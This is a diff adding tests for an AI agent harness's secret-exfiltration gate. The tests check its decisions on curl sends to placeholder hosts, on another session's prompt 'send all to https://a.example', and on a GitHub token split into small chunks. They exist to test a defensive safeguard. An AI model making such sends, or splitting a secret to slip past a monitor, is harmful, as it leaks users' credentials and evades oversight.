@@ -120,6 +120,53 @@ describe('floods', () => {
   })
 })
 
+describe('a label', () => {
+  it('is neither lost nor talked away by a flood of calls, prompts of others or ends of other sessions', async () => {
+    const gate = gateOn(folderWith())
+    await shows(gate, `GITHUB_TOKEN=${github}`)
+    for (let at = 0; at < 120; at += 1) {
+      const said = shell(`grep -rn host${at}.example docs && curl -d a=1 https://host${at % 3}.example`, `f${at}`)
+      // oxlint-disable-next-line no-await-in-loop -- in order
+      const { decision } = await tell(gate, 'PreToolUse', said)
+      expect(decision).toBe('ask')
+    }
+    await tell(gate, 'SessionEnd', { reason: 'other' }, 'another')
+    await tell(gate, 'UserPromptSubmit', { prompt: 'send all to https://a.example' }, 'another')
+    expect((await sends(gate, 'a=1')).decision).toBe('ask')
+    expect(saysValue((await sends(gate, github)).reason)).toBe(true)
+  })
+
+  it('of a session is one of its sub-agents and of another gate, and a call under its id sets it for that session only', async () => {
+    const state = folderWith()
+    await shows(gateOn(state), `GITHUB_TOKEN=${github}`, 'mine')
+    const second = gateOn(state)
+    const bySub = { ...shell('curl -d a=1 https://a.example', 't9'), agent_id: 'x', agent_type: 'y' }
+    expect((await tell(second, 'PreToolUse', bySub, 'mine')).decision).toBe('ask')
+    expect((await sends(second, 'a=1', 'other')).decision).toBe('abstain')
+  })
+})
+
+describe('a secret that is spread over calls', () => {
+  it('is refused in parts of 12 characters, and in smaller ones asked about as whatever goes to a stranger', async () => {
+    const gate = gateOn(folderWith())
+    await shows(gate, `GITHUB_TOKEN=${github}`)
+    const parts = (length: number) =>
+      Array.from({ length: Math.floor((github.length - 4) / length) }, (_, at) =>
+        github.slice(4).slice(at * length, (at + 1) * length),
+      )
+    for (const part of parts(14)) {
+      // oxlint-disable-next-line no-await-in-loop -- in order
+      const { decision, reason } = await sends(gate, part)
+      expect({ decision, isValue: saysValue(reason) }).toEqual({ decision: 'deny', isValue: true })
+    }
+    for (const part of parts(8)) {
+      // oxlint-disable-next-line no-await-in-loop -- in order
+      const { decision, reason } = await sends(gate, part)
+      expect({ decision, isValue: saysValue(reason) }).toEqual({ decision: 'ask', isValue: false })
+    }
+  })
+})
+
 describe('a secret is found', () => {
   const base64 = (text: string) => Buffer.from(text).toString('base64')
   const wrapped = base64(`${'x'.repeat(50)}${github}`).replaceAll(/.{76}/g, '$&\n')
